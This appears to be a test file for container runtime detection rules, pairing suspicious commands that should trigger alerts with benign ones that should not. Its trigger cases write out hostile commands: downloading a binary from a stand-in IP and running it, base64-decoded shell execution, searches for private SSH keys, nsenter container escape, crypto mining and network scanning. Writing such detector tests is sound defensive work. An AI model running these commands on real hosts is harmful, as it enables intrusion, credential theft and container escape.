# SPDX-License-Identifier: Apache-2.0
"""What runs in a container (src/rules/assets/20-programs.yaml)."""

from live import Trigger, judge

judge([
    Trigger("Terminal shell in a container", fires=[["/bin/sh", "-c", "true"]], silent=[["/bin/sh", "-c", "true"]], only_fires="--tty"),
    Trigger("Terminal shell in a container", fires=[["/bin/sh", "-c", "true"]], silent=[["/bin/ls", "/"]], options="--tty", later=True),
    Trigger("Shell started by a server", fires=["/usr/sbin/nginx run /bin/sh -c id"],
            silent=["/usr/sbin/nginx run /usr/bin/convert", "/usr/sbin/nginx run /bin/sh -c 'true healthcheck'"]),
    Trigger("Program that is not in the image", fires=["cp /trigger /opt/x && /opt/x"], silent=["/trigger", "/vol/busybox true"],
            options="-v /bin/busybox:/vol/busybox:ro"),
    Trigger("Downloaded program was run", fires=["/usr/bin/curl http://203.0.113.5/x; cp /trigger /opt/x && /opt/x"], silent=["cp /trigger /opt/x && /opt/x"]),
    Trigger("Program run from memory", fires=["/trigger memory", ["/trigger", "memory"]], silent=["/trigger run /trigger"]),
    Trigger("Program run by the dynamic loader", fires=[["/lib64/ld-linux-x86-64.so.2", "/srv/page"]], silent=[["/lib64/ld-linux-x86-64.so.2", "--list", "/trigger"]]),
    Trigger("Program run from a directory for temporary files", fires=["cp /trigger /tmp/x && /tmp/x", "mkdir /var/tmp; cp /trigger /var/tmp/x && /var/tmp/x"],
            silent=["cp /trigger /opt/x && /opt/x"]),
    Trigger("Package manager in a container", fires=["apt-get install -y netcat", ["/usr/bin/apt-get", "update"]], silent=["dpkg -l", "apt-get --version"]),
    Trigger("Download tool in a container", fires=["curl -s http://203.0.113.5/x", ["/bin/wget", "-T", "1", "http://203.0.113.5/x"]],
            silent=["curl -f http://localhost:8080/health", "curl --version"]),
    Trigger("Reconnaissance tool in a container", fires=["nmap -sS 10.0.0.0/24"], silent=["ss -ltn"]),
    Trigger("Miner of cryptocurrency", fires=["xmrig", "convert -o stratum+tcp://pool.example:3333"], silent=["node server.js --coins all"]),
    Trigger("Shell runs hidden text", fires=["echo aWQ= | base64 -d | sh"], silent=["cat /srv/page | sort"]),
    Trigger("Search for secrets", fires=["/bin/grep -rn 'BEGIN RSA PRIVATE' /root", "/bin/find / -xdev -name id_rsa"], silent=["/bin/grep -c processor /proc/cpuinfo"]),
    Trigger("Tool of escape in a container", fires=["/usr/bin/nsenter -t 1 -m sh"], silent=["docker --version"]),
    Trigger("Users changed in a container", fires=["useradd -m eve", "/bin/adduser -D eve"], silent=["/bin/id"]),
    Trigger("Start from the descriptor of a host directory", fires=["cp /trigger /opt/x && /trigger outside /x"], silent=["cd /srv && /trigger"]),
    Trigger("Debugger attached to a process", fires=["/trigger attach", "/trigger write-memory"], silent=["/trigger trace-me", "/usr/bin/gdb attach"],
            options="--cap-add SYS_PTRACE --security-opt seccomp=unconfined", absent=("request",)),
])
